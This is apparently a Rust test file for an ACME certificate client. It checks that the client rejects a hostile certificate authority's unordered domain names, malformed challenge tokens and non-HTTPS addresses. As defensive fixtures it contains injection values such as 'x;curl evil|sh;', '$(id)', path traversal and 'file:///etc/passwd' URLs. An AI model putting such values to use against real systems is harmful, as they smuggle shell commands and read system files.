//! Authorities that answer about something else than was ordered.

use crate::hostile::{Answers, TOKEN, serve};
use berth_acme::{Account, AcmeError, Placed, Terms};
use serde_json::{Value, json};

const NAME: &str = "ml.contoso.example";
const WILDCARD: &str = "*.ml.contoso.example";

async fn order(answers: Answers, names: &[&str]) -> Result<Placed, AcmeError> {
    let directory = serve(answers).await;
    let (account, _) = Account::register(&directory, None).await?;
    account.order(names).await
}

#[tokio::test]
async fn a_well_behaved_one_is_heard() {
    for (identifiers, names) in [
        (vec![(NAME, false)], vec![NAME]),
        (vec![("ML.Contoso.Example", false)], vec![NAME]),
        (vec![(NAME, true), (NAME, false)], vec![NAME, WILDCARD]),
        (vec![(NAME, true)], vec![WILDCARD]),
        (vec![(NAME, false)], vec![WILDCARD]),
    ] {
        let placed = order(Answers::about(&identifiers), &names).await.unwrap();
        assert_eq!(placed.records.len(), identifiers.len());
        for record in &placed.records {
            assert_eq!(record.name, format!("_acme-challenge.{NAME}"));
            assert!(names.contains(&record.for_name.as_str()), "{record:?}");
        }
    }
}

#[tokio::test]
async fn a_name_that_was_not_ordered_is_refused() {
    for stranger in [
        "x;curl evil|sh;\u{1b}[31m.victim.example",
        "victim.example",
        "contoso.example",
        "a.ml.contoso.example",
        "ml.contoso.example.evil.example",
        "$(id).ml.contoso.example",
        "",
    ] {
        for wildcard in [false, true] {
            let error = order(Answers::about(&[(stranger, wildcard)]), &[NAME])
                .await
                .unwrap_err();
            assert!(
                matches!(&error, AcmeError::NotOrdered { host, .. } if host == "127.0.0.1"),
                "{stranger}: {error:?}"
            );
        }
    }
    // Beside the one that was ordered, there is one too many.
    let error = order(
        Answers::about(&[(NAME, false), ("victim.example", false)]),
        &[NAME],
    )
    .await
    .unwrap_err();
    assert!(matches!(error, AcmeError::Protocol { .. }), "{error:?}");
    let both = ["a.contoso.example", NAME];
    let error = order(Answers::about(&[(NAME, false), ("victim.example", false)]), &both)
        .await
        .unwrap_err();
    assert!(
        matches!(&error, AcmeError::NotOrdered { name, .. } if name == "victim.example"),
        "{error:?}"
    );
}

#[tokio::test]
async fn a_name_that_is_left_out_is_missed() {
    for answered in [vec![], vec![(NAME, false)], vec![(NAME, false), (NAME, false)]] {
        let error = order(Answers::about(&answered), &[NAME, "other.contoso.example"])
            .await
            .unwrap_err();
        assert!(
            matches!(&error, AcmeError::LeftOut { .. }),
            "{answered:?}: {error:?}"
        );
    }
}

#[tokio::test]
async fn a_token_is_no_text_of_its_choice() {
    for token in ["", "a b", "../../x", "$(id)", "a;b", "a\nb", "ü"] {
        let mut answers = Answers::about(&[(NAME, false)]);
        answers.authorizations[0]["challenges"][0]["token"] = json!(token);
        let error = order(answers, &[NAME]).await.unwrap_err();
        assert!(
            matches!(&error, AcmeError::BadToken { name, .. } if name == NAME),
            "{token:?}: {error:?}"
        );
    }
    assert!(TOKEN.len() > 40);
}

#[tokio::test]
async fn no_address_leads_away_from_https() {
    type Spoil = fn(&mut Answers, Value);
    let spoils: [(&str, Spoil); 4] = [
        ("order", |answers, url| {
            answers.order_url = url.as_str().unwrap_or_default().to_owned()
        }),
        ("authorization", |answers, url| {
            answers.order["authorizations"][0] = url
        }),
        ("finalize", |answers, url| answers.order["finalize"] = url),
        ("certificate", |answers, url| answers.order["certificate"] = url),
    ];
    for (member, spoil) in spoils {
        for url in [
            "http://127.0.0.1:1/x",
            "file:///etc/passwd",
            "https://me:you@a.example/x",
            "/relative",
        ] {
            let mut answers = Answers::about(&[(NAME, false)]);
            spoil(&mut answers, json!(url));
            let error = order(answers, &[NAME]).await.unwrap_err();
            assert!(
                matches!(&error, AcmeError::NotHttps { url: told, .. } if told == url),
                "{member} {url}: {error:?}"
            );
        }
    }
}

#[tokio::test]
async fn terms_are_an_https_address_or_none() {
    let told = |meta: Value| async {
        let answers = Answers {
            meta,
            ..Answers::about(&[])
        };
        Terms::read(&serve(answers).await).await
    };
    let address = "https://ca.example/terms-v2.pdf";
    let terms = told(json!({ "termsOfService": address, "website": "http://ca.example" }))
        .await
        .unwrap();
    assert_eq!(
        (terms.host.as_str(), terms.address.as_deref()),
        ("127.0.0.1", Some(address))
    );
    assert!(!terms.hidden);
    let none = told(json!({})).await.unwrap();
    assert_eq!((none.address, none.hidden), (None, false));
    let long = format!("https://ca.example/{}", "x".repeat(10_000));
    for bad in [
        "http://ca.example/terms",
        "javascript:alert(1)",
        "https://ca.example/\u{1b}[31m",
        "file:///etc/passwd",
        "data:text/plain,Do%20what%20thou%20wilt",
        &long,
    ] {
        let terms = told(json!({ "termsOfService": bad })).await.unwrap();
        assert_eq!((terms.address, terms.hidden), (None, true), "{bad}");
    }
    let error = told(json!({ "termsOfService": 7 })).await.unwrap_err();
    assert!(matches!(error, AcmeError::Protocol { .. }), "{error:?}");
}
